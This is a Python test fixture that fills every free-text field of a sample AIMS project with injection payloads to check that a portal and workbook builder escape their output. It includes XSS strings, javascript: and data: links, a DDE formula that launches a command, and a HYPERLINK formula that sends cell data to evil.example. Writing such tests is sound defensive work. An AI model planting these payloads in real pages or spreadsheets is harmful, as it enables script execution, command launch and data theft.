"""A small AIMS whose every free-text field is an attack: markup, script URLs, attribute
breakers, template syntax, JavaScript string breakers and spreadsheet formulas. The
checks of the portal (static and in Chromium) and of the workbook build it with
`make(dest)` and look for the payloads in what came out.

Each payload is harmless text when escaped; if one ever executes, it calls alert(),
which the browser test catches."""
import pathlib
import shutil
import subprocess

BASE = pathlib.Path(__file__).resolve().parent.parent.parent / "fixtures" / "_base"

SCRIPT = '<script>alert("x-script")</script>'
IMG = '"><img src=x onerror=alert("x-img")>'
QUOTE = "' onmouseover='alert(\"x-quote\")' x='"
CLOSE_JS = '</script><script>alert("x-close")</script>'
JS_STRING = "\\\";alert(\"x-string\");//\u2028\u2029"
TEMPLATE = "{{organization}}{{{organization}}}{{#nav}}x{{/nav}}"
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
            "+1+1", "-1+1", "@SUM(1,1)", "=1+1"]
MARKUP = [SCRIPT, IMG, QUOTE, CLOSE_JS, JS_STRING, TEMPLATE]

ORGANIZATION = f"Evil {SCRIPT} Corp"
OWNER_NAME = f"Mallory {IMG}"
OWNER_ROLE = f"Role {QUOTE}"
POLICY_TITLE = f"Policy {CLOSE_JS} {JS_STRING}"
EVIDENCE_FILE = 'evidence/x"><img src=x onerror=alert("x-file")> #?%.txt'

MARKDOWN_BODY = f"""# Attacks {SCRIPT}

Raw HTML: {SCRIPT} <img src=x onerror=alert("x-raw")> <a href="javascript:alert('x-a')">a</a>
<iframe src="javascript:alert('x-iframe')"></iframe>

- [script link](javascript:alert("x-link"))
- [upper case](JAVASCRIPT:alert("x-upper"))
- [entity](javascript&#58;alert("x-entity"))
- [spaced]( javascript:alert("x-spaced"))
- [vbscript](vbscript:msgbox("x-vb"))
- [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgneC1kYXRhJyk8L3NjcmlwdD4=)
- [title breaker](ops.md "a\\" onmouseover=\\"alert('x-title')")
- ![image](x.png" onerror="alert('x-imgmd'))
- <javascript:alert("x-autolink")>
- Reference [ref][r]

[r]: javascript:alert("x-ref")

| {SCRIPT} | {IMG} |
|---|---|
| {QUOTE} | {TEMPLATE} |

{FORMULAS[0]}
"""


def yaml_quote(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\u2028", "\\L") \
        .replace("\u2029", "\\P") + '"'


def make(dest: pathlib.Path) -> pathlib.Path:
    shutil.copytree(BASE, dest)
    q = yaml_quote
    (dest / "site.yaml").write_text(f"""organization: {q(ORGANIZATION)}
scope: {q(MARKDOWN_BODY)}
build_date: 2026-06-01
catalog: catalog.yaml
owners:
  - id: alice
    name: {q(OWNER_NAME)}
    role: {q(OWNER_ROLE)}
    email: {q('a@example.com" onclick="alert(1)')}
  - id: bob
    name: {q(FORMULAS[1])}
    role: {q(FORMULAS[2])}
""")
    catalog = (dest / "catalog.yaml").read_text()
    catalog = catalog.replace("title: Scope", f"title: {q('Scope ' + IMG)}")
    catalog = catalog.replace("title: Inventory", f"title: {q(FORMULAS[0])}")
    catalog = catalog.replace("title: Policy", f"title: {q(FORMULAS[5])}")
    (dest / "catalog.yaml").write_text(catalog)
    policy = (dest / "content/policy.md").read_text()
    policy = policy.replace("title: Management Policy", f"title: {q(POLICY_TITLE)}")
    policy = policy.replace('version: "1.0"', f"version: {q(FORMULAS[3])}")
    policy = policy.replace("approved_by: alice", f"approved_by: {q(FORMULAS[4] + ' ' + QUOTE)}")
    (dest / "content/policy.md").write_text(policy + "\n" + MARKDOWN_BODY)
    (dest / EVIDENCE_FILE).write_text("hostile file name\n")
    (dest / "controls/1.1.yaml").write_text(f"""id: "1.1"
applicable: true
justification: {q(FORMULAS[5] + ' ' + SCRIPT)}
status: implemented
owner: alice
notes: {q(MARKDOWN_BODY)}
evidence:
  - id: EV-1.1
    title: {q(FORMULAS[3] + ' ' + IMG)}
    file: {q(EVIDENCE_FILE)}
    collected: 2026-03-01
  - id: EV-1.1-url
    title: {q(TEMPLATE)}
    url: "https://example.com/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&a='b'"
    collected: 2026-03-01
""")
    a11 = (dest / "controls/A.1.1.yaml").read_text()
    a11 = a11.replace("justification: Needed for our models.",
                      f"justification: {q(FORMULAS[4] + ' ' + SCRIPT)}")
    (dest / "controls/A.1.1.yaml").write_text(a11)
    a12 = (dest / "controls/A.1.2.yaml").read_text()
    a12 = a12.replace("applicable: true", "applicable: false")
    a12 = a12.replace("justification: Needed for our models.",
                      f"justification: {q(FORMULAS[0] + ' ' + QUOTE)}")
    (dest / "controls/A.1.2.yaml").write_text(a12)
    return dest


def build(aimsdoc: str, tmp: pathlib.Path) -> pathlib.Path | None:
    """Makes the hostile AIMS in tmp/aims and builds it into tmp/site (gaps allowed: some
    payloads are findings too). The site folder, or None after printing why not."""
    root = make(tmp / "aims")
    site = tmp / "site"
    run = subprocess.run([aimsdoc, "build", "--root", str(root), "--out", str(site),
                          "--allow-gaps"], capture_output=True, text=True)
    if run.returncode != 0 or not (site / "manifest.json").is_file():
        print(f"FAIL: build exit {run.returncode}\n{run.stderr}")
        return None
    return site
